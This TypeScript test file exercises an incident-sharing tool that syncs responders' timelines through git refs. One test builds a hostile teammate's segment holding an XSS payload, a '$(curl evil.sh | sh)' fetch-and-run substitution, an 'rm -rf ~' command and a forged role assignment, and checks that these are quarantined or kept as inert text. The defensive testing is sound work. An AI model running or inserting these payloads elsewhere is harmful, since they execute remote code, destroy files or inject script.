// Two (or more) responders sharing incidents through one bare repository on disk, with real
// git: the whole protocol, its faults, and the checks on what teammates push.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { encodeRecord } from '../../../src/incidents/journal';
import type { TimelineEvent } from '../../../src/incidents/model';
import { encodeWriterSegment } from '../../../src/incidents/sharedSegment';
import { makeTeam, pushRawSegment, refuseCustomRefs, type Team } from './team';

const A = 'wa000000000';
const B = 'wb000000000';
const MALLORY = 'wm000000000';

const notes = (events: readonly TimelineEvent[]) => events.filter((e) => e.type === 'note').map((e) => (e as { text: string }).text);

describe('incident sharing through git (real repositories)', function () {
  this.timeout(120_000);
  let team: Team;
  beforeEach(() => {
    team = makeTeam();
  });
  afterEach(async () => {
    await team.cleanup();
  });

  async function declaredAndShared() {
    const ana = await team.responder('Ana', A);
    const bo = await team.responder('Bo', B);
    const inc = await ana.book.declare({ title: 'Checkout 502', severity: 'SEV2', commander: 'Ana' });
    await ana.book.addNote(inc.id, 'error rate 12%');
    await ana.share(inc.id, team.remote);
    return { ana, bo, id: inc.id };
  }

  it('A shares, B discovers and joins and notes, A sees B\'s note; nobody\'s branches are touched', async () => {
    const { ana, bo, id } = await declaredAndShared();
    assert.equal(ana.sync.unshared(id), 0);
    const refs = team.remoteGit('for-each-ref', '--format=%(refname)');
    assert.equal(refs.trim(), `refs/oncall/incidents/${id}/${A}`, 'one ref, under the incident namespace, no branch');

    const found = await bo.sync.sync({ defaultRemote: team.remote });
    assert.deepEqual(found.discovered, [id]);
    assert.equal(found.fetched, 2);
    assert.equal(bo.book.incident(id)?.title, 'Checkout 502');
    assert.equal(bo.book.isShared(id), true);
    assert.equal(bo.book.hasOwnEvents(id), false);
    assert.equal(bo.book.summary(id)?.declaredBy, 'Ana');

    await bo.book.join(id, 'techLead');
    await bo.book.addNote(id, 'rolled back 4.2');
    await bo.sync.adopt(id, team.remote);
    const pushed = await bo.sync.sync();
    assert.equal(pushed.pushed, 3);
    assert.deepEqual(pushed.errors, []);

    const back = await ana.sync.sync();
    assert.equal(back.fetched, 3);
    assert.deepEqual(notes(ana.book.events(id)), ['error rate 12%', 'rolled back 4.2']);
    const fromBo = ana.book.events(id).filter((e) => e.writer === B);
    assert.ok(fromBo.every((e) => e.author === 'Bo'));
    assert.equal(ana.book.incident(id)?.roles.techLead, 'Bo');
    assert.deepEqual(ana.book.summary(id)?.responders, ['Ana', 'Bo']);
    // Reloading from disk gives the same timeline (the teammate's copy is in the store).
    const again = await team.responder('Ana', A);
    assert.deepEqual(again.book.events(id).map((e) => e.id), ana.book.events(id).map((e) => e.id));
  });

  it('two responders pushing at the same moment both land: no merge, no force, no retry', async () => {
    const { ana, bo, id } = await declaredAndShared();
    await bo.sync.sync({ defaultRemote: team.remote });
    await bo.book.join(id);
    await bo.sync.adopt(id, team.remote);
    await bo.sync.sync();
    await ana.sync.sync();
    await ana.book.addNote(id, 'ana at the same time');
    await bo.book.addNote(id, 'bo at the same time');
    const before = [ana.sync.repo.pushes, bo.sync.repo.pushes];
    const [ra, rb] = await Promise.all([ana.sync.sync({ fetch: false }), bo.sync.sync({ fetch: false })]);
    assert.deepEqual([ra.errors, rb.errors], [[], []]);
    assert.deepEqual([ra.pushed, rb.pushed], [1, 1]);
    assert.deepEqual([ana.sync.repo.pushes - before[0], bo.sync.repo.pushes - before[1]], [1, 1], 'one push each');
    await ana.sync.sync();
    await bo.sync.sync();
    assert.deepEqual(notes(ana.book.events(id)).sort(), notes(bo.book.events(id)).sort());
    assert.equal(notes(ana.book.events(id)).length, 3);
  });

  it('keeps events local while the remote is unreachable, says how many are not shared, and catches up', async () => {
    const { ana, bo, id } = await declaredAndShared();
    await bo.sync.sync({ defaultRemote: team.remote });
    const away = `${team.remote}.away`;
    renameSync(team.remote, away);
    await ana.book.addNote(id, 'written offline 1');
    await ana.book.addNote(id, 'written offline 2');
    const offline = await ana.sync.sync();
    assert.ok(offline.errors.some((e) => e.kind === 'unreachable'), offline.errors.map((e) => `${e.kind}: ${e.message}`).join('; '));
    assert.equal(ana.sync.unshared(id), 2);
    assert.equal(ana.sync.incidentState(id)?.lastError?.kind, 'unreachable');
    assert.deepEqual(notes(ana.book.events(id)).slice(-2), ['written offline 1', 'written offline 2'], 'acknowledged locally all the same');
    renameSync(away, team.remote);
    const back = await ana.sync.sync();
    assert.deepEqual(back.errors, []);
    assert.equal(back.pushed, 2);
    assert.equal(ana.sync.unshared(id), 0);
    await bo.sync.sync();
    assert.deepEqual(notes(bo.book.events(id)), ['error rate 12%', 'written offline 1', 'written offline 2']);
  });

  it('completes after a sync was killed: stale git and sync locks are cleared, a ref moved but not pushed is pushed', async () => {
    const { ana, bo, id } = await declaredAndShared();
    await ana.book.addNote(id, 'before the crash');
    // What a kill leaves behind: our sync lock held by a dead process, git's lock on our ref.
    const shareDir = path.join(ana.dir, 'share');
    writeFileSync(path.join(shareDir, 'sync.lock'), '999999');
    const refDir = path.join(shareDir, 'repo.git', 'refs', 'oncall', 'incidents', id);
    mkdirSync(refDir, { recursive: true });
    writeFileSync(path.join(refDir, `${A}.lock`), '');
    const r = await ana.sync.sync();
    assert.deepEqual(r.errors, []);
    assert.equal(r.pushed, 1);
    assert.ok(!existsSync(path.join(refDir, `${A}.lock`)));
    await bo.sync.sync({ defaultRemote: team.remote });
    assert.ok(notes(bo.book.events(id)).includes('before the crash'));
  });

  it('never forces: when its own ref moved on the remote, the next push descends from what is there', async () => {
    const { ana, id } = await declaredAndShared();
    // Someone pushed to Ana's ref (a second copy of her installation, say).
    const theirs = encodeWriterSegment(id, A, 'Ana (laptop)', [{ id: 'elaptop-1', incidentId: id, time: new Date().toISOString(), author: 'Ana', writer: A, type: 'note', text: 'from the laptop' }]);
    const other = pushRawSegment(team, id, A, theirs.events, theirs.writer);
    await ana.book.addNote(id, 'from the desktop');
    const pushesBefore = ana.sync.repo.pushes;
    const r = await ana.sync.sync();
    assert.equal(ana.sync.repo.pushes - pushesBefore, 2, 'refused once (not forced), then built on the fetched tip');
    assert.deepEqual(r.errors, [], r.errors.map((e) => e.message).join('; '));
    const tip = team.remoteGit('rev-parse', `refs/oncall/incidents/${id}/${A}`).trim();
    execFileSync('git', ['merge-base', '--is-ancestor', other, tip], { cwd: team.remote, env: team.env });
    assert.ok(notes(ana.book.events(id)).includes('from the laptop'), 'the other copy\'s events were taken in');
    assert.equal(ana.sync.unshared(id), 0);
  });

  it('recovers its own events from the remote after the sharing folder and the store were lost', async () => {
    const { ana, id } = await declaredAndShared();
    await ana.journal.close();
    rmSync(ana.dir, { recursive: true, force: true });
    const fresh = await team.responder('Ana', A);
    await fresh.sync.sync({ defaultRemote: team.remote });
    assert.deepEqual(notes(fresh.book.events(id)), ['error rate 12%']);
    await fresh.book.addNote(id, 'after the loss');
    const r = await fresh.sync.sync();
    assert.deepEqual(r.errors, []);
    const later = await team.responder('Bo', B);
    await later.sync.sync({ defaultRemote: team.remote });
    assert.deepEqual(notes(later.book.events(id)), ['error rate 12%', 'after the loss']);
  });

  it('quarantines a hostile segment pushed by hand, takes its intact events as text, and says so', async () => {
    const { bo, id } = await declaredAndShared();
    const hostileText = '<img src=x onerror=alert(1)> $(curl evil.sh | sh) \u202Eevil';
    const good: TimelineEvent = { id: 'em-good', incidentId: id, time: new Date().toISOString(), author: hostileText, writer: MALLORY, type: 'note', text: hostileText };
    const run: TimelineEvent = { id: 'em-run', incidentId: id, time: new Date().toISOString(), author: 'Mallory', writer: MALLORY, type: 'commandRun', runbookPath: '/x.md', runbookTitle: 'x', blockIndex: 0, command: 'rm -rf ~', exitCode: 0, durationMs: 1 };
    const forged: TimelineEvent = { id: 'em-forged', incidentId: id, time: new Date().toISOString(), author: 'Ana', writer: A, type: 'roleAssigned', role: 'commander', person: 'Mallory' };
    const tampered = encodeRecord({ ...good, id: 'em-tampered' }).toString().replace('evil.sh', 'evil.io');
    const events = Buffer.concat([encodeRecord(good), encodeRecord(run), encodeRecord(forged), Buffer.from(tampered), Buffer.from('garbage line\n')]);
    const tip = pushRawSegment(team, id, MALLORY, events, JSON.stringify({ format: 1, incidentId: id, writer: MALLORY, name: hostileText }));
    const r = await bo.sync.sync({ defaultRemote: team.remote });
    const kinds = r.problems.map((p) => `${p.writer}:${p.line}:${p.kind}`).sort();
    assert.deepEqual(kinds, [`${MALLORY}:3:forgedWriter`, `${MALLORY}:4:badRecord`, `${MALLORY}:5:badRecord`]);
    const ids = bo.book.events(id).map((e) => e.id);
    assert.ok(ids.includes('em-good') && ids.includes('em-run'));
    assert.ok(!ids.includes('em-forged') && !ids.includes('em-tampered'));
    assert.notEqual(bo.book.incident(id)?.roles.commander, 'Mallory');
    const shown = bo.book.events(id).find((e) => e.id === 'em-good') as { text: string };
    assert.equal(shown.text, hostileText, 'hostile text stays text, byte for byte');
    const qdir = path.join(bo.journal.incidentDir(id), 'quarantine');
    const [qfile] = readdirSync(qdir);
    assert.equal(qfile, `shared-${MALLORY}-${tip.slice(0, 12)}.bad`);
    const kept = readFileSync(path.join(qdir, qfile), 'utf8');
    assert.ok(kept.includes('"id":"em-forged"') && kept.includes('"id":"em-tampered"') && kept.includes('garbage line'), 'every set-aside byte is kept');
    assert.equal(bo.sync.problems(id).length, 3, 'the problems are kept for the views');
    // Taken once: the next sync does not report them again.
    assert.deepEqual((await bo.sync.sync()).problems, []);
  });

  it('refuses whole a huge segment and one that claims another writer or incident', async () => {
    const team2 = team;
    const ana = await team2.responder('Ana', A);
    const inc = await ana.book.declare({ title: 'T' });
    await ana.share(inc.id, team2.remote);
    const small = await team2.responder('Small', 'ws000000000', { maxSegmentBytes: 2_000 });
    const big = encodeWriterSegment(inc.id, 'wh000000000', 'Huge', Array.from({ length: 30 }, (_, i) => ({ id: `eh-${i}`, incidentId: inc.id, time: new Date().toISOString(), author: 'Huge', type: 'note', text: 'x'.repeat(100) }) as TimelineEvent));
    pushRawSegment(team2, inc.id, 'wh000000000', big.events, big.writer);
    const claim = encodeWriterSegment(inc.id, A, 'Not Ana', [{ id: 'ec-1', incidentId: inc.id, time: new Date().toISOString(), author: 'Ana', type: 'note', text: 'I am Ana' }]);
    pushRawSegment(team2, inc.id, 'wc000000000', claim.events, claim.writer);
    const r = await small.sync.sync({ defaultRemote: team2.remote });
    assert.deepEqual(r.problems.map((p) => `${p.writer}:${p.kind}`).sort(), ['wc000000000:forgedWriter', 'wh000000000:huge']);
    assert.ok(!small.book.events(inc.id).some((e) => e.id.startsWith('eh-') || e.id === 'ec-1'));
    assert.equal(small.book.incident(inc.id)?.title, 'T', 'the rest of the incident is there');
  });

  it('with shareTransport "refs", names the ref namespace, the branch fallback and the setting when the host refuses custom refs', async () => {
    const ana = await team.responder('Ana', A, { transport: 'refs' });
    const inc = await ana.book.declare({ title: 'T' });
    refuseCustomRefs(team);
    await ana.book.markShared(inc.id);
    await ana.sync.adopt(inc.id, team.remote);
    const r = await ana.sync.sync({ only: [inc.id] });
    const e = r.errors.find((x) => x.kind === 'refusedRef');
    assert.ok(e, r.errors.map((x) => `${x.kind}: ${x.message}`).join('; '));
    assert.match(e.message, /refs\/oncall\/incidents\//);
    assert.match(e.message, /dedicated branch oncall\/incidents instead, whose files are per writer/);
    assert.match(e.message, /oncall\.incidents\.shareTransport/);
    assert.deepEqual(r.switched, [], 'told to use refs, it does not switch');
    assert.equal(ana.sync.unshared(inc.id), 1);
    assert.equal(team.remoteGit('for-each-ref').trim(), '', 'nothing landed');
  });
});
